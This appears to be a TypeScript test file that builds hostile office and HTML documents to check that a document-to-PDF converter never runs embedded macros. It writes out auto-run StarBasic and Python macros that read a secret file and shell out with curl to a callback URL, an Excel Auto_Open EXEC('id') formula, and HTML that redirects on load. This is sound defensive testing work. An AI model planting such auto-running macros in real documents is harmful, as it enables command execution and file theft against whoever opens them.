import { DOCX, HTML, ODS, ODT, PPTX, XLSX } from '@creatorr/tool-kit/files/media-types';
import { oleFile } from '@creatorr/tool-kit/testing/ole-file';
import { type OdfKind, odf } from '@creatorr/tools/testing/builders/odf';
import { docx, pptx, xlsx } from '@creatorr/tools/testing/builders/ooxml';
import { type Family, type HostileCase, succeeds } from '../hostile-case.ts';
import type { World } from '../world.ts';

const MICROSOFT = 'application/vnd.ms-';
const vba = () =>
	oleFile({
		PROJECT: Buffer.from('ID="{0}"'),
		dir: Buffer.alloc(5000, 1),
		ThisDocument: Buffer.alloc(5000, 1),
	});
const VBA_TYPE =
	'<Override PartName="/PART/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>';

/** Basic that would show that it ran: it writes the secret into the document, and tells somebody. */
function basic({ files, url }: World): string {
	const lines = [
		'Sub Main',
		`Open "${files.text}" For Input As #1`,
		'Line Input #1, s',
		'ThisComponent.Text.insertString(ThisComponent.Text.getEnd(), "MACRO RAN " &amp; s, False)',
		`Shell("/bin/sh", 0, "-c 'curl ${url('macro')}'")`,
		'End Sub',
	];
	return lines.join('\n');
}

function withBasic(
	world: World,
	kind: OdfKind,
	event: string,
	language = 'vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document',
): Buffer {
	const module = `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic(world)}</script:module>`;
	const library =
		'<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>';
	const libraries =
		'<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>';
	const listener = `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:href="${language}" xlink:type="simple"/>`;
	return odf(kind, {
		head: `<office:scripts><office:event-listeners>${listener}</office:event-listeners></office:scripts>`,
		extra: [
			{ name: 'Basic/script-lc.xml', content: libraries },
			{ name: 'Basic/Standard/script-lb.xml', content: library },
			{ name: 'Basic/Standard/M.xml', content: module },
			{
				name: 'Scripts/python/m.py',
				content: `def main(*_):\n    open("/scratch/ran", "w").write(open("${world.files.text}").read())\n`,
			},
		],
		types: {
			'Basic/script-lc.xml': 'text/xml',
			'Basic/Standard/script-lb.xml': 'text/xml',
			'Basic/Standard/M.xml': 'text/xml',
			'Scripts/python/m.py': '',
		},
	});
}

/** Programs in documents: none runs. */
export const macros: Family = {
	name: 'macros',
	cases: (world) => [...microsoft(), ...basics(world), ...embedded(world)],
};

const of = (name: string, mimeType: string, make: () => Buffer): HostileCase => ({
	...{
		name,
		tool: 'office_to_pdf',
		fileName: 'a',
		mimeType,
		make,
		expected: succeeds(/^(?![\s\S]*MACRO RAN)[\s\S]*Harmless/),
	},
});

function microsoft(): HostileCase[] {
	const parts = (folder: string) => ({
		extra: [{ name: `${folder}/vbaProject.bin`, content: vba() }],
		relations: [
			{
				id: 'rId7',
				type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
				target: 'vbaProject.bin',
			},
		],
		types: VBA_TYPE.replace('PART', folder),
	});
	return [
		of('a docm, called a docx', DOCX, () =>
			docx({ ...parts('word'), mainType: `${MICROSOFT}word.document.macroEnabled.main+xml` }),
		),
		of('a dotm, called a docx', DOCX, () =>
			docx({ ...parts('word'), mainType: `${MICROSOFT}word.template.macroEnabledTemplate.main+xml` }),
		),
		of('a docx that hides a macro', DOCX, () => docx(parts('word'))),
		of('an xlsm, called an xlsx', XLSX, () =>
			xlsx({ ...parts('xl'), mainType: `${MICROSOFT}excel.sheet.macroEnabled.main+xml` }),
		),
		of('a pptm, called a pptx', PPTX, () =>
			pptx({ ...parts('ppt'), mainType: `${MICROSOFT}powerpoint.presentation.macroEnabled.main+xml` }),
		),
		of('an xlsx with a macro of old sheets', XLSX, () =>
			xlsx({
				workbook:
					'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">One!$A$1</definedName></definedNames>',
				body: '<row r="2"><c r="A2"><f>EXEC("id")</f><v>0</v></c></row>',
			}),
		),
	];
}

function basics(world: World): HostileCase[] {
	const events = [
		'dom:load',
		'office:new',
		'dom:unload',
		'office:print',
		'office:layout-finished',
		'office:view-created',
	];
	return [
		...events.map((event) => of(`Basic in an odt, at ${event}`, ODT, () => withBasic(world, 'text', event))),
		of('Basic in an ods, when it is opened', ODS, () => withBasic(world, 'spreadsheet', 'dom:load')),
		of('Python in an odt, when it is opened', ODT, () =>
			withBasic(
				world,
				'text',
				'dom:load',
				'vnd.sun.star.script:m.py$main?language=Python&amp;location=document',
			),
		),
		of('a script of the office’s own, when it is opened', ODT, () =>
			withBasic(
				world,
				'text',
				'dom:load',
				'vnd.sun.star.script:Capitalise.py$capitalisePython?language=Python&amp;location=share',
			),
		),
		of('a command of the office, when it is opened', ODT, () =>
			withBasic(world, 'text', 'dom:load', '.uno:Quit'),
		),
	];
}

function embedded({ files, url }: World): HostileCase[] {
	const button =
		'<office:forms><form:form><form:button form:control-implementation="ooo:com.sun.star.form.component.CommandButton" form:id="c"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="form:performaction" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></form:button></form:form></office:forms>';
	const field =
		'<text:p><text:script script:language="JavaScript">alert(1)</text:script><text:execute-macro text:name="Standard.M.Main">run</text:execute-macro></text:p>';
	return [
		of('a button with a macro', ODT, () => odf('text', { body: button })),
		of('fields of script and macro', ODT, () => odf('text', { body: field })),
		of('scripts of a page of HTML', HTML, () =>
			Buffer.from(
				`<html><body onload="location='${url('js')}'"><p>Harmless</p><script>document.write('MACRO RAN')</script><script language="StarBasic">Sub Main\nPrint "MACRO RAN"\nEnd Sub</script><a href="javascript:alert(1)">a</a><a href="macro:///Standard.M.Main()">b</a></body></html>`,
			),
		),
		of('an applet and a plugin', HTML, () =>
			Buffer.from(
				`<html><body><p>Harmless</p><applet code="A.class" codebase="${url('applet')}"></applet><embed src="file://${files.html}"></body></html>`,
			),
		),
	];
}
